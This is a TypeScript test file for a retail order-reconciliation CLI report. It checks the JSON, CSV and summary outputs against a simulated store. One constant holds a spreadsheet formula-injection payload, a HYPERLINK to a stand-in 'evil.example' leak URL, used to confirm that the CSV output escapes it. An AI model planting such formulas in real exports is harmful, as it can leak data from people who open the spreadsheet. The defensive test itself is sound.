// `pnpm cli report reconcile` through the CLI in-process, on a store synced from the simulator over
// loopback and its hand-edited eCom export: the JSON contract, the CSV file (formula injection
// neutralised) and the human summary.
import { readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { testDatabaseKind, useTestCleanup } from "@greenloop/db/testing";
import { startSimulator } from "@greenloop/lightspeed-simulator";
import { describe, expect, it } from "vitest";
import { editExportOrder } from "../../monitoring/reconcile/testing/edit-export-order";
import {
  cliJson,
  expectBadInput,
  freshDatabaseEnv,
  runCliCaptured,
  simulatedStoreEnv,
} from "../testing/cli-test-env";

const cleanup = useTestCleanup();
const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
const MALICIOUS = '=HYPERLINK("http://evil.example/?leak","Click")';

describe(`pnpm cli report reconcile (${testDatabaseKind})`, () => {
  it("reports each order's category as JSON, a spreadsheet-safe CSV and a summary", async () => {
    const sim = await startSimulator({
      seed: 5,
      // A whole minute: the export's timestamps have no seconds.
      start: new Date(Math.floor((Date.now() - 2 * DAY) / MINUTE) * MINUTE),
      store: { customers: 0, inStoreSales: 0, ecomOrders: 0 },
      rateLimit: { limit: 1_000_000, windowMs: 300_000 },
    });
    cleanup.defer(() => sim.close());
    const { store } = sim;
    const matched = store.placeEcomOrder({ delayMs: HOUR, loyaltyCents: 400 });
    const refunded = store.placeEcomOrder({ delayMs: HOUR, fulfillment: "pickup" });
    const never = store.placeEcomOrder({ delayMs: 3650 * DAY });
    const renamed = store.placeEcomOrder({ delayMs: 3650 * DAY });
    store.advanceClock(2 * HOUR);

    const dir = cleanup.tempDir();
    const env = await simulatedStoreEnv(cleanup, sim);
    await cliJson(["sync"], env);
    let csv = editExportOrder(store.ecomCsvExport(), refunded.orderNumber, {
      payment_status: "Refunded",
      payment_status_code: "REFUNDED",
    });
    csv = editExportOrder(csv, renamed.orderNumber, { order_number: MALICIOUS });
    const exportFile = path.join(dir, "orders.csv");
    await writeFile(exportFile, csv);
    const outFile = path.join(dir, "reconcile.csv");

    const report = await cliJson(["report", "reconcile", exportFile, "--csv", outFile], env);
    expect(Object.keys(report).sort()).toEqual(["command", "counts", "ok", "orders"]);
    expect(report.counts).toEqual({
      orders: 4,
      matched: 1,
      missingInXSeries: 2,
      totalMismatch: 0,
      statusMismatch: 1,
      rejectedRows: 0,
    });
    const byNumber = new Map(
      report.orders.map((order: { ecomOrderNumber: string }) => [order.ecomOrderNumber, order]),
    );
    expect(byNumber.get(matched.orderNumber)).toEqual({
      ecomOrderNumber: matched.orderNumber,
      placedAt: new Date(matched.placedAtMs).toISOString(),
      category: "matched",
      exportTotal: (matched.totalCents / 100).toFixed(2),
      xseriesTotal: (matched.totalCents / 100).toFixed(2),
      difference: "0.00",
      loyaltyPaid: "4.00",
      exportStatus: "COMPLETED",
      xseriesStatus: "OPEN",
      retailSaleId: expect.any(String),
      matchedBy: "SOURCE_ID",
    });
    expect(byNumber.get(refunded.orderNumber)).toMatchObject({
      category: "status_mismatch",
      exportStatus: "REFUNDED",
      xseriesStatus: "OPEN",
    });
    expect(byNumber.get(never.orderNumber)).toMatchObject({
      category: "missing_in_xseries",
      xseriesTotal: null,
      retailSaleId: null,
    });
    expect(byNumber.get(MALICIOUS)).toMatchObject({ category: "missing_in_xseries" });

    const written = await readFile(outFile, "utf8");
    const lines = written.split("\r\n");
    expect(lines[0]).toBe(
      "ecom_order_number,placed_at,category,export_total,xseries_total,difference,loyalty_paid,export_status,xseries_status,retail_sale_id,matched_by",
    );
    expect(lines).toHaveLength(4 + 2); // header, 4 orders, and the empty string after the last CRLF
    expect(written).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""Click"")",`);
    expect(written).not.toMatch(/(^|[\n,])"?=HYPERLINK/);

    const human = await runCliCaptured(["report", "reconcile", exportFile], env);
    expect(human.exitCode).toBe(0);
    expect(human.stdout).toContain("Reconciled orders.csv: 4 order(s), 0 row(s) rejected");
    expect(human.stdout).toContain("status differs       1");
    expect(human.stdout).toContain(`#${refunded.orderNumber}`);
    expect(human.stdout).toContain(`#${never.orderNumber}`);
    expect(human.stdout).not.toContain(`#${matched.orderNumber} `);
  });

  it("refuses bad input with a message that says what to do", async () => {
    const env = await freshDatabaseEnv(cleanup);
    const cases: Array<[string[], RegExp]> = [
      [["report", "reconcile"], /Expected exactly one export file/],
      [["report", "reconcile", "/nonexistent/orders.csv"], /File not found/],
      [["report", "reconcile", "x.csv", "--format", "excel"], /--format must be one of/],
      [["report", "reconcile", "x.csv", "--mapping", "{not json"], /--mapping is not valid JSON/],
      [["report", "missing", "--csv", "out.csv"], /report missing does not take --csv/],
    ];
    await expectBadInput(cases, env);
  });
});
